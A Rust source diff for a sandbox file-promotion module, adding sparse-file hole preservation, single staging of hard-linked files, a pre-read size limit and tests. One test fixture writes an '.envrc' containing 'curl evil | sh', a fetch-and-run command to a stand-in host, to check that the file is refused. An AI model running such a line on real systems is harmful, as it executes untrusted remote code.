@@ -17,7 +17,7 @@
 use std::collections::{BTreeMap, BTreeSet, HashMap};
 use std::ffi::{CStr, CString, OsStr};
 use std::fs::File;
-use std::io::{self, Read as _, Write as _};
+use std::io;
 use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
 use std::os::unix::ffi::OsStrExt as _;
 use std::path::{Component, Path, PathBuf};
@@ -27,10 +27,11 @@ use rustix::io::Errno;
 use sha2::{Digest as _, Sha256};
 
 use crate::escape::{escape_path, is_unsafe_char};
+use crate::layout::{Footprint, Measured, SizeLimit, TooLarge, measure};
 use crate::record::{Event, MAX_CHANGED_PATHS};
 use crate::scratch::{
-    Change, ChangeKind, DELETED_MANIFEST, ExactReader, FileKind, OPAQUE_MANIFEST, SKIPPED_MANIFEST,
-    ScratchError, open_root, open_source, read_link, size_of,
+    Change, ChangeKind, DELETED_MANIFEST, FileKind, OPAQUE_MANIFEST, SKIPPED_MANIFEST,
+    ScratchError, checked_layout, copy_file, open_root, open_source, read_link, size_of,
 };
 
 /// Name prefix of the staging directory [`prepare`] makes in the target root.
@@ -78,6 +79,9 @@ pub enum PromoteError {
         /// Target path.
         path: PathBuf,
     },
+    /// The change set would write more than its limit (checked before any file is read).
+    #[error(transparent)]
+    TooLarge(#[from] TooLarge),
     /// A file changed in the upper dir between the diff and the copy.
     #[error("{} changed while being promoted", escape_path(path))]
     Changed {
@@ -489,10 +493,16 @@ pub enum Op {
     File {
         /// 0644, or 0755 when any execute bit was set.
         mode: u32,
-        /// Size in bytes.
+        /// Size in bytes (holes included).
         size: u64,
-        /// sha256 of the content.
+        /// Bytes of data: what is read and written (holes are neither).
+        data: u64,
+        /// sha256 of the file's layout and data (`crate::layout`): its size, then each
+        /// data segment's offset, length and bytes; a hole is never expanded to be hashed.
         sha256: [u8; 32],
+        /// An earlier path of the change set that is the same file: this one is a hard
+        /// link to it (staged once, linked within the change set).
+        link: Option<PathBuf>,
     },
     /// Put a symlink there (its target stays inside the target tree).
     Symlink {
@@ -536,13 +546,28 @@ impl Entry {
                 format!("keep    /{p} (directory)")
             }
             Op::Dir { .. } => format!("mkdir   /{p}{replaces}"),
-            Op::File { mode, size, .. } => {
+            Op::File {
+                mode,
+                size,
+                data,
+                link,
+                ..
+            } => {
                 let verb = if self.existing == Existing::File {
                     "replace"
                 } else {
                     "create "
                 };
-                format!("{verb} /{p} (file {mode:04o}, {size} bytes{replaces})")
+                match link {
+                    Some(first) => format!(
+                        "{verb} /{p} (hard link to /{}{replaces})",
+                        escape_path(first)
+                    ),
+                    None if data != size => format!(
+                        "{verb} /{p} (file {mode:04o}, {size} bytes, {data} of them data{replaces})"
+                    ),
+                    None => format!("{verb} /{p} (file {mode:04o}, {size} bytes{replaces})"),
+                }
             }
             Op::Symlink { target } => {
                 format!("symlink /{p} -> {}{replaces}", escape_path(target))
@@ -561,6 +586,9 @@ pub struct Plan {
     pub refused: Vec<(PathBuf, Refusal)>,
     /// `sha256:` digest of the steps (paths, kinds, modes, file contents, link targets).
     pub digest: String,
+    /// What the change set's files take on the target (holes kept, each file once):
+    /// [`Footprint::data`] is what staging writes.
+    pub footprint: Footprint,
     /// The target's owner (uid, gid): every created entry gets it.
     pub owner: (u32, u32),
     target: PathBuf,
@@ -769,28 +797,31 @@ pub(crate) fn resolve_link(link: &Path, target: &Path) -> Result<PathBuf, Refusa
     Ok(stack.iter().collect())
 }
 
-/// How a file's content is read and, when staging, copied.
+/// Reads a file's data segments (never its holes) once, hashes them with its layout and,
+/// when staging, writes them at their offsets into a sparse staged copy. The file must still
+/// be the one [`measure`]d as `measured` (same inode, no more data).
 fn copy_and_hash(
     upper_fd: &OwnedFd,
     upper: &Path,
     rel: &Path,
     expected: &Change,
+    measured: Option<&Measured>,
     staging: Option<&mut Staging>,
     owner: (u32, u32),
-) -> Result<(Stat, [u8; 32], Option<CString>), PromoteError> {
+) -> Result<(Stat, [u8; 32], u64, Option<CString>), PromoteError> {
+    let changed = || PromoteError::Changed {
+        path: rel.to_owned(),
+    };
     let (src, st) = open_source(upper_fd, upper, rel)?;
     if st.st_mode & 0o7777 != expected.mode {
-        return Err(PromoteError::Changed {
-            path: rel.to_owned(),
-        });
+        return Err(changed());
     }
-    let size = size_of(&st);
-    let mut reader = ExactReader {
-        inner: src,
-        remaining: size,
-    };
+    let layout = checked_layout(&src, &st, measured, upper, rel).map_err(|e| match e {
+        ScratchError::Changed { .. } => changed(),
+        e => e.into(),
+    })?;
     let mut hasher = Sha256::new();
-    let (mut out, name) = match staging {
+    let (out, name) = match staging {
         Some(s) => {
             let name = s.next_name();
             let fd = rustix::fs::openat(
@@ -804,26 +835,28 @@ fn copy_and_hash(
         }
         None => (None, None),
     };
-    let mut buf = vec![0u8; 64 * 1024];
-    loop {
-        let n = reader.read(&mut buf).map_err(|source| PromoteError::Io {
-            op: "read",
-            path: upper.join(rel),
+    copy_file(
+        &src,
+        &layout,
+        Some(&mut hasher),
+        out.as_ref(),
+        upper,
+        rel,
+        rel,
+    )
+    .map_err(|e| match e {
+        ScratchError::Changed { .. } => changed(),
+        ScratchError::Io {
+            op: "write",
             source,
-        })?;
-        if n == 0 {
-            break;
-        }
-        let chunk = buf.get(..n).unwrap_or_default();
-        hasher.update(chunk);
-        if let Some(f) = out.as_mut() {
-            f.write_all(chunk).map_err(|source| PromoteError::Io {
-                op: "write staged copy of",
-                path: rel.to_owned(),
-                source,
-            })?;
-        }
-    }
+            ..
+        } => PromoteError::Io {
+            op: "write staged copy of",
+            path: rel.to_owned(),
+            source,
+        },
+        e => e.into(),
+    })?;
     if let Some(f) = out {
         let mode = normal_file_mode(st.st_mode);
         chown_if_needed(f.as_fd(), owner).map_err(io_at("chown staged copy of", rel))?;
@@ -835,7 +868,7 @@ fn copy_and_hash(
             source,
         })?;
     }
-    Ok((st, hasher.finalize().into(), name))
+    Ok((st, hasher.finalize().into(), layout.data(), name))
 }
 
 /// The mode a promoted file gets: 0755 if any execute bit was set, else 0644 (what git
@@ -849,12 +882,18 @@ pub fn normal_file_mode(mode: u32) -> u32 {
 /// copied into a private staging directory in `target` for [`apply`]; without it (a dry
 /// run) nothing in `target` is touched. Refused entries are listed in [`Plan::refused`];
 /// when there are any, nothing may be applied.
+///
+/// Holes and hard links are kept: only data segments are read, hashed and staged (staged
+/// copies are sparse), and a file with several names in the change set is read and staged
+/// once, its other names staged as hard links to that copy. Before any file is read, the
+/// change set's size on the target (holes kept, each file once) must be within `limit`.
 pub fn prepare(
     upper: &Path,
     changes: &[Change],
     target: &Path,
     rules: &Rules,
     stage: bool,
+    limit: &SizeLimit,
 ) -> Result<Plan, PromoteError> {
     let root = match rustix::fs::open(
         target,
@@ -871,17 +910,20 @@ pub fn prepare(
     };
     let st = rustix::fs::fstat(&root).map_err(io_at("stat", target))?;
     let owner = (st.st_uid, st.st_gid);
+    let upper_fd = open_root(upper, OFlags::RDONLY)?;
+    // Sizes from stat and the hole map only: nothing is read, nothing staged, past the limit.
+    let footprint = measure(&upper_fd, upper, changes)?;
+    footprint.check(footprint.data, limit)?;
     let mut staging = if stage {
         Some(Staging::new(&root, target, owner)?)
     } else {
         None
     };
-    let upper_fd = open_root(upper, OFlags::RDONLY)?;
     let mut refused: Vec<(PathBuf, Refusal)> = Vec::new();
     let mut entries: Vec<Entry> = Vec::new();
     let mut fresh: BTreeSet<PathBuf> = BTreeSet::new();
-    // (dev, ino) -> (nlink, names in the change set, those names)
-    let mut inodes: HashMap<(u64, u64), (u64, u64, Vec<PathBuf>)> = HashMap::new();
+    // (dev, ino) -> the entry that read and staged that file, for its other names.
+    let mut copied: HashMap<(u64, u64), (PathBuf, Op, Option<CString>)> = HashMap::new();
     let mut links: Vec<(PathBuf, PathBuf)> = Vec::new();
     // Every symlink of the change set, refused ones too.
     let all_links: BTreeSet<&Path> = changes
@@ -947,23 +989,85 @@ pub fn prepare(
                 (Op::Dir { clear }, None)
             }
             (_, FileKind::File) => {
-                let (st, sha256, staged) =
-                    copy_and_hash(&upper_fd, upper, &c.path, c, staging.as_mut(), owner)?;
-                if st.st_nlink > 1 {
-                    let e = inodes.entry((st.st_dev, st.st_ino)).or_insert((
-                        st.st_nlink,
-                        0,
-                        Vec::new(),
-                    ));
-                    e.1 += 1;
-                    e.2.push(c.path.clone());
-                }
-                let op = Op::File {
-                    mode: normal_file_mode(st.st_mode),
-                    size: size_of(&st),
-                    sha256,
+                let measured = footprint.file(&c.path).copied();
+                let Some(m) = measured else {
+                    return Err(PromoteError::Changed {
+                        path: c.path.clone(),
+                    });
                 };
-                (op, staged)
+                // Every name of a linked file must be in the change set.
+                let inside = footprint.names_of(&m);
+                if m.nlink > inside {
+                    refused.push((
+                        c.path.clone(),
+                        Refusal::HardLink {
+                            nlink: m.nlink,
+                            inside,
+                        },
+                    ));
+                    continue;
+                }
+                if let Some((first, first_op, first_staged)) = copied.get(&m.id) {
+                    let (_, st) = open_source(&upper_fd, upper, &c.path)?;
+                    if (st.st_dev, st.st_ino) != m.id || st.st_mode & 0o7777 != c.mode {
+                        return Err(PromoteError::Changed {
+                            path: c.path.clone(),
+                        });
+                    }
+                    let staged = match (staging.as_mut(), first_staged) {
+                        (Some(s), Some(from)) => {
+                            let name = s.next_name();
+                            rustix::fs::linkat(
+                                &s.fd,
+                                from.as_c_str(),
+                                &s.fd,
+                                name.as_c_str(),
+                                AtFlags::empty(),
+                            )
+                            .map_err(io_at("stage hard link", &c.path))?;
+                            Some(name)
+                        }
+                        _ => None,
+                    };
+                    let op = match first_op.clone() {
+                        Op::File {
+                            mode,
+                            size,
+                            data,
+                            sha256,
+                            ..
+                        } => Op::File {
+                            mode,
+                            size,
+                            data,
+                            sha256,
+                            link: Some(first.clone()),
+                        },
+                        other => other,
+                    };
+                    (op, staged)
+                } else {
+                    let (st, sha256, data, staged) = copy_and_hash(
+                        &upper_fd,
+                        upper,
+                        &c.path,
+                        c,
+                        Some(&m),
+                        staging.as_mut(),
+                        owner,
+                    )?;
+                    let op = Op::File {
+                        mode: normal_file_mode(st.st_mode),
+                        size: size_of(&st),
+                        data,
+                        sha256,
+                        link: None,
+                    };
+                    if m.nlink > 1 {
+                        copied.insert(m.id, (c.path.clone(), op.clone(), staged.clone()));
+                    }
+                    (op, staged)
+                }
             }
             (_, FileKind::Symlink) => {
                 let target_os = read_link(&upper_fd, upper, &c.path)?;
@@ -1033,15 +1137,6 @@ pub fn prepare(
             existing,
             staged,
         });
-    }
-
-    // Hard links: every name of a linked file must be in the change set.
-    for (nlink, inside, paths) in inodes.into_values() {
-        if inside < nlink {
-            for p in paths {
-                refused.push((p, Refusal::HardLink { nlink, inside }));
-            }
-        }
     }
 
     // Symlinks may not resolve through another symlink (planned, or already in the target).
@@ -1122,6 +1217,7 @@ pub fn prepare(
         entries,
         refused,
         digest,
+        footprint,
         owner,
         target: target.to_owned(),
         root,
@@ -1140,9 +1236,19 @@ fn digest(entries: &[Entry]) -> String {
         match &e.op {
             Op::Delete => h.update(b"delete"),
             Op::Dir { clear } => h.update(if *clear { &b"dir clear"[..] } else { b"dir" }),
-            Op::File { mode, size, sha256 } => {
-                h.update(format!("file {mode:o} {size} ").as_bytes());
+            Op::File {
+                mode,
+                size,
+                data,
+                sha256,
+                link,
+            } => {
+                h.update(format!("file {mode:o} {size} {data} ").as_bytes());
                 h.update(sha256);
+                if let Some(first) = link {
+                    h.update(b" link ");
+                    h.update(first.as_os_str().as_bytes());
+                }
             }
             Op::Symlink { target } => {
                 h.update(b"symlink ");
@@ -1391,7 +1497,14 @@ mod tests {
     impl Fixture {
         fn plan(&self, stage: bool) -> Result<Plan, PromoteError> {
             let changes = crate::diff(&self.upper, Some(&self.lower))?;
-            prepare(&self.upper, &changes, &self.target, &rules(), stage)
+            prepare(
+                &self.upper,
+                &changes,
+                &self.target,
+                &rules(),
+                stage,
+                &SizeLimit::none(),
+            )
         }
 
         fn refused(&self) -> Result<Vec<(String, Refusal)>, PromoteError> {
@@ -2154,6 +2267,172 @@ mod tests {
         std::fs::create_dir_all(f.upper.join("data/objects"))?;
         std::fs::create_dir_all(f.upper.join("data/refs"))?;
         f.apply_all()?;
+        Ok(())
+    }
+
+    /// Bytes this thread has read through read(2)-like calls (`rchar` of
+    /// `/proc/thread-self/io`): tests run on threads of their own.
+    fn thread_rchar() -> Result<u64, Box<dyn std::error::Error>> {
+        let io = std::fs::read_to_string("/proc/thread-self/io")?;
+        let line = io
+            .lines()
+            .find(|l| l.starts_with("rchar:"))
+            .ok_or("no rchar")?;
+        Ok(line.trim_start_matches("rchar:").trim().parse()?)
+    }
+
+    /// A 64 MiB file with three small data segments.
+    fn sparse_file(path: &Path) -> io::Result<()> {
+        use std::os::unix::fs::FileExt as _;
+        if let Some(p) = path.parent() {
+            std::fs::create_dir_all(p)?;
+        }
+        let f = File::create_new(path)?;
+        f.set_len(64 << 20)?;
+        f.write_all_at(b"head", 0)?;
+        f.write_all_at(&[9u8; 5000], 20 << 20)?;
+        f.write_all_at(b"tail", (64 << 20) - 4)?;
+        f.sync_all()
+    }
+
+    #[test]
+    fn sparse_files_and_hard_links_are_staged_once_and_promoted_with_holes_and_links() -> TestResult
+    {
+        let f = fixture()?;
+        sparse_file(&f.upper.join("data/big.img"))?;
+        write(&f.upper.join("lib/a.so"), &"x".repeat(100_000))?;
+        for name in ["lib/b.so", "lib/c.so", "other/d.so"] {
+            write(&f.upper.join(name).with_file_name(".keep"), "")?;
+            std::fs::hard_link(f.upper.join("lib/a.so"), f.upper.join(name))?;
+        }
+        let before = thread_rchar()?;
+        let dry = f.plan(false)?;
+        let read = thread_rchar()? - before;
+        assert!(dry.refused.is_empty(), "{:?}", dry.refused);
+        // The data once: three blocks' worth of segments (4 KiB, 8 KiB, 4 KiB: holes are
+        // block-sized) and 100,000 bytes; not 64 MiB, not 4 x 100,000.
+        assert!(read < 200_000, "the dry run read {read} bytes");
+        assert_eq!(dry.footprint.data, 16384 + 100_000);
+        assert_eq!(dry.footprint.naive, (64 << 20) + 400_000);
+        let lines: Vec<String> = dry.entries.iter().map(Entry::describe).collect();
+        assert!(
+            lines.contains(
+                &"create  /data/big.img (file 0644, 67108864 bytes, 16384 of them data)".to_owned()
+            ),
+            "{lines:?}"
+        );
+        assert!(
+            lines.contains(&"create  /lib/b.so (hard link to /lib/a.so)".to_owned()),
+            "{lines:?}"
+        );
+        assert!(lines.contains(&"create  /other/d.so (hard link to /lib/a.so)".to_owned()));
+
+        let plan = f.plan(true)?;
+        assert_eq!(plan.digest, dry.digest);
+        apply(&plan)?;
+        drop(plan);
+        let big = std::fs::metadata(f.target.join("data/big.img"))?;
+        assert_eq!(big.len(), 64 << 20);
+        assert!(
+            big.blocks() * 512 <= 256 << 10,
+            "holes filled: {} blocks",
+            big.blocks()
+        );
+        assert!(
+            std::fs::read(f.upper.join("data/big.img"))?
+                == std::fs::read(f.target.join("data/big.img"))?,
+            "content differs"
+        );
+        let ino = std::fs::metadata(f.target.join("lib/a.so"))?.ino();
+        for name in ["lib/b.so", "lib/c.so", "other/d.so"] {
+            let m = std::fs::metadata(f.target.join(name))?;
+            assert_eq!((m.ino(), m.nlink()), (ino, 4), "{name}");
+        }
+        assert_eq!(f.read("other/d.so")?.len(), 100_000);
+        Ok(())
+    }
+
+    #[test]
+    fn a_change_set_past_the_limit_is_refused_before_any_file_is_read() -> TestResult {
+        let f = fixture()?;
+        write(&f.upper.join("a"), &"a".repeat(3 << 20))?;
+        for i in 0..20 {
+            std::fs::hard_link(f.upper.join("a"), f.upper.join(format!("l{i}")))?;
+        }
+        sparse_file(&f.upper.join("big"))?;
+        let changes = crate::diff(&f.upper, Some(&f.lower))?;
+        let limit = SizeLimit {
+            bytes: 2 << 20,
+            source: "the sandbox's workspace_size".to_owned(),
+        };
+        for stage in [false, true] {
+            let before = thread_rchar()?;
+            let r = prepare(&f.upper, &changes, &f.target, &rules(), stage, &limit);
+            let read = thread_rchar()? - before;
+            let Err(PromoteError::TooLarge(e)) = r else {
+                return Err(format!("not refused: {r:?}").into());
+            };
+            assert_eq!((e.bytes, e.files, e.names), ((3 << 20) + 16384, 2, 22));
+            assert!(read < 64 << 10, "read {read} bytes before refusing");
+            assert!(f.snapshot().is_empty(), "the target changed");
+        }
+        // Within the limit, what is read is the data once.
+        let roomy = SizeLimit {
+            bytes: 4 << 20,
+            source: "test".to_owned(),
+        };
+        let before = thread_rchar()?;
+        let plan = prepare(&f.upper, &changes, &f.target, &rules(), false, &roomy)?;
+        let read = thread_rchar()? - before;
+        assert!(plan.refused.is_empty());
+        assert!(read < (3 << 20) + (256 << 10), "read {read} bytes");
+        Ok(())
+    }
+
+    #[test]
+    fn the_digest_tells_a_hole_from_written_zeros_and_a_link_from_a_copy() -> TestResult {
+        use std::os::unix::fs::FileExt as _;
+        let f = fixture()?;
+        sparse_file(&f.upper.join("s"))?;
+        let sparse = f.plan(false)?.digest;
+        // The same bytes with the holes written as zeros.
+        let bytes = std::fs::read(f.upper.join("s"))?;
+        std::fs::remove_file(f.upper.join("s"))?;
+        File::create_new(f.upper.join("s"))?.write_all_at(&bytes, 0)?;
+        assert_ne!(f.plan(false)?.digest, sparse);
+        std::fs::remove_file(f.upper.join("s"))?;
+
+        write(&f.upper.join("a"), "same\n")?;
+        write(&f.upper.join("b"), "same\n")?;
+        let copies = f.plan(false)?.digest;
+        std::fs::remove_file(f.upper.join("b"))?;
+        std::fs::hard_link(f.upper.join("a"), f.upper.join("b"))?;
+        assert_ne!(f.plan(false)?.digest, copies);
+        Ok(())
+    }
+
+    /// The first name of a linked file refused by name: the next name reads and stages it,
+    /// and the plan still refuses (nothing is applied).
+    #[test]
+    fn a_linked_file_whose_first_name_is_refused_is_read_under_its_next_name() -> TestResult {
+        let f = fixture()?;
+        write(&f.upper.join(".envrc"), "curl evil | sh\n")?;
+        std::fs::hard_link(f.upper.join(".envrc"), f.upper.join("notes"))?;
+        std::fs::hard_link(f.upper.join(".envrc"), f.upper.join("z"))?;
+        let plan = f.plan(true)?;
+        let refused: Vec<_> = plan.refused.iter().map(|(p, _)| p.clone()).collect();
+        assert_eq!(refused, [PathBuf::from(".envrc")]);
+        let lines: Vec<String> = plan.entries.iter().map(Entry::describe).collect();
+        assert_eq!(
+            lines,
+            [
+                "create  /notes (file 0644, 15 bytes)",
+                "create  /z (hard link to /notes)"
+            ]
+        );
+        assert!(apply(&plan).is_err());
+        drop(plan);
+        assert!(f.snapshot().is_empty());
         Ok(())
     }
 }
